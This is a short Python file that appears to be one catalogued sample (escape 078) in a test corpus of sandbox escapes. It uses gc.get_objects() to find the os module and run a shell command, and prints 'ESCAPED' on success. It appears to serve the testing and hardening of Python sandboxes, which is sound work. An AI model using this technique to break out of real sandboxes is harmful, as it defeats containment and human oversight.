# escape: 078
# technique: gc.get_objects finds C functions, modules and host objects the guest has no name for
# family: gcwalk
# goal: exec
# first-seen: Srdnlen CTF 2025; CSAW 2023 'Python Garbageman'
import gc
for o in gc.get_objects():
    if type(o) is type(gc) and o.__name__ == 'os':
        if o.popen('echo gc').read() == 'gc\n': print('ESCAPED:gc os'); break
